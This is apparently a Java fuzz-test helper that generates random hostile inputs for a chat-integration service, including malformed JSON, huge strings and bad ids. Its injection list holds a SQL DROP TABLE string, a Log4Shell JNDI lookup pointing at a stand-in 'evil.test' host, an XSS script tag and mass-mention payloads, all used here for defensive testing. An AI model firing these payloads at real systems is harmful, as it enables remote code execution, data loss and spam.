package dev.sharewell.testing;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.Random;

/**
 * Random hostile values for the fuzz test, all drawn from one seeded {@link Random} so a run can be
 * repeated: odd text, injections, huge strings, numbers out of range, JSON of the wrong type.
 */
public final class Junk {
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
  private static final List<String> INJECTIONS =
      List.of(
          "<!channel>",
          "<!here>",
          "<!everyone>",
          "<@UADMIN>",
          "<http://evil.test|click me>",
          "[click](http://evil.test)",
          "![img](http://evil.test/x.png)",
          "*bold* _it_ ~strike~ `code`",
          "# heading",
          "1. list",
          "'; DROP TABLE members; --",
          "\u0000\u0001\u001f",
          "\u202e\u200b\ufeff",
          "😀👍🏽",
          "&amp;&lt;&gt;",
          "%00%ZZ%",
          "${jndi:ldap://evil.test/a}",
          "<at>Sharewell</at>",
          "<script>alert(1)</script>");

  private final Random random;

  public Junk(Random random) {
    this.random = random;
  }

  public Random random() {
    return random;
  }

  public boolean chance(double p) {
    return random.nextDouble() < p;
  }

  public int below(int bound) {
    return random.nextInt(bound);
  }

  public <T> T pick(List<T> options) {
    return options.get(random.nextInt(options.size()));
  }

  /** A string of one of many hostile kinds, at most a few hundred kilobytes. */
  public String text() {
    return switch (random.nextInt(10)) {
      case 0 -> "";
      case 1 -> " \t\n ";
      case 2 -> pick(INJECTIONS);
      case 3 -> letters(1 + random.nextInt(12));
      case 4 -> Long.toString(random.nextLong());
      case 5 -> huge();
      case 6 -> pick(INJECTIONS) + " " + letters(5) + " " + pick(INJECTIONS);
      case 7 -> unicode(1 + random.nextInt(40));
      case 8 -> "https://" + letters(6) + ".test/" + letters(random.nextInt(3000));
      default -> letters(3) + " " + number() + " " + pick(INJECTIONS);
    };
  }

  /** A value that is no content item's id: not a number, negative, zero or far too large. */
  public String badId() {
    return pick(
        List.of(
            "",
            "abc",
            "-1",
            "0",
            Long.toString(1_000_000 + random.nextInt(1_000_000)),
            "99999999999999999999999",
            "1e3",
            " 1 2 ",
            "0x10",
            text()));
  }

  public String number() {
    return pick(
        List.of(
            "0",
            "-1",
            "2147483648",
            "-9223372036854775809",
            "NaN",
            "1.5",
            Integer.toString(random.nextInt())));
  }

  public String letters(int n) {
    StringBuilder out = new StringBuilder(n);
    for (int i = 0; i < n; i++) {
      out.append((char) ('a' + random.nextInt(26)));
    }
    return out.toString();
  }

  public String unicode(int n) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < n; i++) {
      int cp = random.nextInt(0x2FFFF);
      if (Character.isValidCodePoint(cp) && !Character.isSurrogate((char) cp)) {
        out.appendCodePoint(cp);
      }
    }
    return out.toString();
  }

  /** 10 to 60 thousand characters. */
  public String huge() {
    return "x".repeat(10_000 + random.nextInt(50_000));
  }

  /** Any JSON value, often of a type the receiver does not expect. */
  public JsonNode json(int depth) {
    return switch (random.nextInt(depth <= 0 ? 6 : 8)) {
      case 0 -> NODES.nullNode();
      case 1 -> NODES.booleanNode(random.nextBoolean());
      case 2 -> NODES.numberNode(random.nextLong());
      case 3 -> NODES.numberNode(random.nextDouble() * 1e300);
      case 4, 5 -> NODES.textNode(text());
      case 6 -> {
        ArrayNode array = NODES.arrayNode();
        for (int i = random.nextInt(4); i > 0; i--) {
          array.add(json(depth - 1));
        }
        yield array;
      }
      default -> {
        ObjectNode object = NODES.objectNode();
        for (int i = random.nextInt(4); i > 0; i--) {
          object.set(letters(1 + random.nextInt(8)), json(depth - 1));
        }
        yield object;
      }
    };
  }

  /** The body cut somewhere in its middle. */
  public String truncate(String body) {
    return body.isEmpty() ? body : body.substring(0, random.nextInt(body.length()));
  }
}
